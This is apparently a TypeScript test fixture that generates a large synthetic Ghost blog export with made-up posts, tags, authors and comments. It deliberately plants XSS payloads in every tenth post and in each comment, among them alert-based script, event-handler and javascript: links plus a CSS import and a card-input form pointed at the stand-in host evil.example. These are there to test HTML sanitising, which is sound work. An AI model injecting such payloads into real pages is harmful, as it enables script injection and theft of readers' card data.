import { once } from 'node:events'
import { createWriteStream } from 'node:fs'
import { numbers, paragraph, sentence, word } from './made-up-words.ts'

/** What no reader must ever be given: it stands in every tenth post. */
const hostile = `<p onmouseover="alert(1)">Over <a href="javascript:alert(2)">there</a><img src=x onerror=alert(3)></p><script>alert(4)</script><svg onload=alert(5)></svg><iframe srcdoc="<script>alert(6)</script>"></iframe><style>@import url(//evil.example)</style><form action="//evil.example"><input name=card></form>`

function post(id: number, posts: number): object {
  const next = numbers(id * 7919)
  const link = () => `<a href="__GHOST_URL__/post-${1 + (next() % posts)}/">${word(next)}</a>`
  const paragraphs = Array.from({ length: 12 }, () => paragraph(next))
  const html = paragraphs.map((text) => `<p>${text} ${link()} <em>${word(next)}</em>.</p>`)
  if (id % 10 === 0) html.splice(4, 0, hostile)
  if (id % 7 === 0) html.splice(3, 0, '<!--members-only-->')
  const lexical = {
    root: {
      type: 'root',
      children: paragraphs.map((text) => ({
        type: 'paragraph',
        version: 1,
        children: [{ type: 'extended-text', text, format: 0, version: 1 }],
      })),
    },
  }
  // Some were never opened since they were brought to Ghost: it has not rendered them.
  const isRendered = id % 50 !== 0
  const day = `20${String(10 + (id % 12)).padStart(2, '0')}-0${1 + (id % 9)}-1${id % 10}`
  return {
    id: `post${id}`,
    uuid: `uuid-${id}`,
    title: `${sentence(next).slice(0, -1)} ${id}`,
    slug: `post-${id}`,
    lexical: JSON.stringify(lexical),
    html: isRendered ? html.join('') : null,
    plaintext: paragraphs.join('\n\n'),
    type: 'post',
    status: 'published',
    visibility: ['public', 'members', 'paid'][id % 3],
    published_at: `${day}T05:${String(id % 60).padStart(2, '0')}:07.000Z`,
    updated_at: `${day}T09:00:00.000Z`,
    custom_excerpt: sentence(next),
  }
}

/** Writes an export of as many posts as are asked for, the same every time, each with author, two tags and a comment. */
export async function writeLargeGhostExport(file: string, posts: number): Promise<void> {
  const ids = Array.from({ length: posts }, (_, place) => place + 1)
  const stream = createWriteStream(file)
  const write = async (text: string) => {
    if (!stream.write(text)) await once(stream, 'drain')
  }
  await write('{"db":[{"meta":{"version":"6.65.0"},"data":{"posts":[')
  for (const id of ids) await write(`${id === 1 ? '' : ','}${JSON.stringify(post(id, posts))}`)
  await write(']')
  const tables: Record<string, object[]> = {
    tags: Array.from({ length: 46 }, (_, tag) => ({ id: `tag${tag}`, name: `Tag ${tag}`, slug: `tag-${tag}` })),
    users: [1, 2, 3].map((user) => ({
      id: `user${user}`,
      name: `Writer ${user}`,
      slug: `writer-${user}`,
      bio: 'Writes.',
    })),
    posts_tags: ids.flatMap((id) => [
      { post_id: `post${id}`, tag_id: `tag${id % 6}`, sort_order: 0 },
      { post_id: `post${id}`, tag_id: `tag${6 + (id % 40)}`, sort_order: 1 },
    ]),
    posts_authors: ids.map((id) => ({ post_id: `post${id}`, author_id: `user${1 + (id % 3)}`, sort_order: 0 })),
    comments: ids.map((id) => ({
      id: `comment${id}`,
      post_id: `post${id}`,
      member_id: `member${id % 500}`,
      status: 'published',
      html: `<p>${sentence(numbers(id))}</p><img src=x onerror=alert(7)>`,
      created_at: '2023-01-01T00:00:00.000Z',
    })),
  }
  for (const [name, rows] of Object.entries(tables)) await write(`,${JSON.stringify(name)}:${JSON.stringify(rows)}`)
  stream.end('}}]}')
  await once(stream, 'close')
}
